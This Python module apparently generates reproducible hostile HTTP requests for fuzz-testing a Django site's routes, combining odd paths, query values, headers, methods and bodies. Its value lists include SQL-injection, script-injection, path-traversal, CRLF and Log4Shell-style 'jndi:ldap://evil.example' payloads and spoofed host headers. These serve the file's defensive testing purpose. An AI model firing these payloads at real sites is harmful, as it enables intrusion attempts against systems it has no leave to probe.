"""Hostile requests, the same for the same seed: what anybody with a socket can send to the site."""

import random
import re
from collections.abc import Iterator
from dataclasses import dataclass, field
from urllib.parse import quote

from django.urls import URLPattern, URLResolver, get_resolver

from participants.models import Hero, Organization
from programs.models import City, Meeting, Program

WORDS = ["a", "e", "the", "school", "visit", "justice", "ministry", "محكمة", "会議", "école", "Łukasz", "São"]
NONSENSE = [
    *("", " ", "0", "-1", "1.5", "1e9", "٣", "²", "9" * 26, "2" * 900, "\x00", "a\x00b", "\x7f\x1b[31m", "%"),
    *("_%_", "\\", "'", "' OR 1=1 --", '"><script>alert(1)</script>', "{{ 7|add:7 }}", "{% load i18n %}"),
    *("../../etc/passwd", "America/", "UTC\n", "\r\nSet-Cookie: a=b", "مرحبا", "🙂" * 60, "e\u0301" * 90),
    *("\u202e\u2066", "\ufeff", "\u00ad\u200b", "\ud7ff", "\ufffe", "x" * 3000, "((((" * 40, "*" * 200),
    *("a e i o u s t r", "b " * 90, "a* & b | !c", "GMT+5", "Etc/Unknown", "../Zurich", "None", "null"),
]
NOT_TEXT = ["%ff%fe", "%c3%28", "%ed%a0%80", "%", "%zz", "%u0041", "%00", "%0d%0aX:%20y", "+", "%2e%2e%2f"]
#: What addresses ask for, and what none does.
NAMES = [
    "tz",
    "q",
    "page",
    "year",
    "city",
    "country",
    "format",
    "kind",
    "view",
    "hero",
    "organization",
    "lang",
]
NAMES += [
    "limit",
    "offset",
    "program",
    "since",
    "date_from",
    "date_to",
    "status",
    "featured",
    "p",
    "next",
    "o",
]
UNKNOWN = ["x", "utm_source", "fbclid", "tz[]", "Q", "", "%00", "_method", "q.q", "callback", "all"]
HEADERS = {
    "HOST": ["127.0.0.1", "evil.example", "", "a b", "[::1", "localhost:99999999", "\x00", "LOCALHOST."],
    "X_FORWARDED_HOST": ["evil.example", "localhost"],
    "X_FORWARDED_PROTO": ["https", "http", "nonsense"],
    "X_FORWARDED_FOR": ["127.0.0.1", "'", "x" * 3000],
    "X_FORWARDED_PORT": ["1", "nonsense"],
    "FORWARDED": ["for=127.0.0.1;host=evil.example;proto=https"],
    "SCRIPT_NAME": ["/quotes", "/evil"],
    "PATH_INFO": ["/admin/", "/evil"],
    "X_ORIGINAL_URL": ["/admin/"],
    "X_REWRITE_URL": ["/admin/"],
    "X_HTTP_METHOD_OVERRIDE": ["POST", "DELETE"],
    "ACCEPT": ["nonsense", "application/json", "*/*;q=0", "text/html;level=" + "9" * 900],
    "ACCEPT_LANGUAGE": ["fr", "ar", "x" * 3000, "fr-\x00;q=nonsense", "es;q=1e99"],
    "ACCEPT_ENCODING": ["br", "gzip", "identity;q=0", "br;q=nonsense, *;q=, ,,", "zstd"],
    "IF_NONE_MATCH": ['"', "*", 'W/"a", "b"', "x" * 900],
    "IF_MATCH": ["nonsense", "*"],
    "IF_MODIFIED_SINCE": ["yesterday", "Thu, 01 Jan 1970 00:00:00 GMT", "Mon, 99 Xyz 99999 99:99:99 GMT"],
    "IF_UNMODIFIED_SINCE": ["Thu, 01 Jan 1970 00:00:00 GMT"],
    "RANGE": ["bytes=9-1", "bytes=0-", "bytes=-1,0-0,5-"],
    "COOKIE": ["sessionid=nonsense; csrftoken=; messages=%00; =; a", "django_language=fr", "\xff=;;;", "a=b"],
    "AUTHORIZATION": ["Basic ///", "Bearer x", "\xff"],
    "REFERER": ["\xff", "https://evil.example/", "javascript:alert(1)"],
    "ORIGIN": ["null", "https://evil.example", "nonsense"],
    "USER_AGENT": ["", "x" * 3000, "\xff\xfe", "${jndi:ldap://evil.example}"],
    "CONTENT_ENCODING": ["gzip", "nonsense"],
    "TRANSFER_ENCODING": ["chunked"],
    "EXPECT": ["100-continue"],
    "UPGRADE": ["h2c"],
    "X_REQUESTED_WITH": ["XMLHttpRequest"],
    "SEC_FETCH_SITE": ["cross-site"],
    "ACCESS_CONTROL_REQUEST_METHOD": ["PUT"],
    "ACCESS_CONTROL_REQUEST_HEADERS": ["x" * 900],
}  # fmt: skip
METHODS = ["HEAD", "POST", "OPTIONS", "PUT", "DELETE", "PATCH", "TRACE", "get", "PROPFIND", "\xff"]
BODIES = [b"", b"a=b", b"{", b"[" * 5000, b"\xff\xfe", b"--x\r\n\r\n--x--", b"q=" + b"x" * 20_000]
BODY_TYPES = [
    "application/x-www-form-urlencoded",
    "application/json",
    "multipart/form-data; boundary=x",
    "nonsense/\xff",
]


@dataclass(frozen=True)
class Ask:
    """One request: the method, the address as it stands in the request's first line, headers by WSGI name."""

    method: str
    path: str
    query: str = ""
    headers: dict[str, str] = field(default_factory=dict)
    body: bytes = b""
    body_type: str = ""

    def __str__(self) -> str:
        return f"{self.method} {self.path}?{self.query} {self.headers}"[:400]


def routes() -> list[str]:
    """Every address pattern of the site, such as "programs/<slug:slug>/", from the resolver."""

    def walk(patterns: list[URLPattern | URLResolver], prefix: str) -> Iterator[str]:
        for pattern in patterns:
            route = prefix + str(pattern.pattern)
            if isinstance(pattern, URLResolver):
                yield from walk(pattern.url_patterns, route)
            elif "(?" not in route:
                yield "/" + route

    return sorted(set(walk(get_resolver().url_patterns, "")))


def asks(seed: int, known: list[str]) -> Iterator[Ask]:
    """Requests without end. `known` are addresses that answer, from which others are made."""
    chance = random.Random(seed)
    public = [route for route in routes() if not route.startswith("/admin/")]
    desk = [route for route in routes() if route.startswith("/admin/")]
    while True:
        patterns = public if chance.random() < 0.8 else desk
        method = "GET" if chance.random() < 0.8 else chance.choice(METHODS)
        path = _path(chance, known, patterns)
        query = _query(chance)
        headers = _headers(chance)
        body = chance.choice(BODIES) if method in ("POST", "PUT", "PATCH", "DELETE") else b""
        yield Ask(method, path, query, headers, body, chance.choice(BODY_TYPES) if body else "")


def _path(chance: random.Random, known: list[str], patterns: list[str]) -> str:
    kind = chance.random()
    if kind < 0.55:
        path = chance.choice(known)
        return chance.choice(["/es", "/fr", "/ar"]) + path if path.endswith("/") and kind < 0.1 else path
    if kind < 0.75:
        return _bent(chance, chance.choice(known))
    if kind < 0.95:
        return re.sub(r"<[^>]*>", lambda _: _value(chance), chance.choice(patterns))
    return "/" + quote(chance.randbytes(chance.randrange(40)))


def _bent(chance: random.Random, path: str) -> str:
    """A known address with something wrong in it."""
    at = chance.randrange(len(path) + 1)
    ending = chance.choice(["", ".", "%20", ";a=b", ".json", "%00", "/photo.jpg", "/."])
    language = chance.choice(["es", "fr", "ar", "en", "de", "es/ar"])
    return chance.choice(
        [
            path[:at] + _value(chance) + path[at:],
            path[:at] + path[at + 1 :],
            path.replace("/", "//", 1),
            f"{path[:at]}/../{path[at:]}",
            path.upper(),
            f"/{language}{path}",
            path.rstrip("/") + ending,
            "".join(f"%{byte:02X}" for byte in path.encode()),
        ]
    )


def _value(chance: random.Random) -> str:
    """A value, percent-encoded or in a form that cannot be decoded."""
    kind = chance.random()
    if kind < 0.3:
        return quote(chance.choice(WORDS), safe="")
    if kind < 0.6:
        return quote(chance.choice(NONSENSE), safe="")
    if kind < 0.7:
        return chance.choice(NOT_TEXT)
    if kind < 0.85:
        text = "".join(
            chr(chance.choice([chance.randrange(0x80), chance.randrange(0x3000)])) for _ in range(12)
        )
        return quote(text, safe="")
    return quote(" ".join(chance.choice(WORDS) for _ in range(chance.randrange(1, 12))), safe="")


def _query(chance: random.Random) -> str:
    if chance.random() < 0.3:
        return ""
    pairs = []
    for _ in range(chance.choice([1, 1, 1, 2, 3, 6])):
        name = chance.choice(NAMES) if chance.random() < 0.85 else chance.choice(UNKNOWN)
        pairs.append(name + chance.choice(["=", "=", "=", "=", "", "=="]) + _value(chance))
    return chance.choice(["&", "&", "&", ";", "&&"]).join(pairs)


def _headers(chance: random.Random) -> dict[str, str]:
    names = [name for name in HEADERS if chance.random() < 1.5 / len(HEADERS)]
    return {f"HTTP_{name}": chance.choice(HEADERS[name]) for name in names}


def known_addresses(each: int = 40) -> list[str]:
    """Public addresses that answer: those without a record, and those of some records of each kind."""
    records = {
        "heroes": Hero.objects.public(),
        "organizations": Organization.objects.public(),
        "cities": City.objects.public(),
        "programs": Program.objects.public(),
    }
    slugs = {
        kind: list(public.order_by("pk").values_list("slug", flat=True)[:each])
        for kind, public in records.items()
    }
    meetings = Meeting.objects.public().order_by("pk").values_list("program__slug", "uid")[:each]
    found = {route for route in routes() if "<" not in route and not route.startswith("/admin/")}
    found |= {"/admin/", "/admin/login/"}
    for route in routes():
        kind = next((kind for kind in slugs if f"/{kind}/<" in route), "")
        if "uid>" in route:
            found.update(
                re.sub(r"<[^>]*uid>", str(uid), re.sub(r"<slug[^>]*>", slug, route)) for slug, uid in meetings
            )
        elif kind and route.count("<") == 1:
            found.update(re.sub(r"<[^>]*>", slug, route) for slug in slugs[kind])
    return sorted(found)
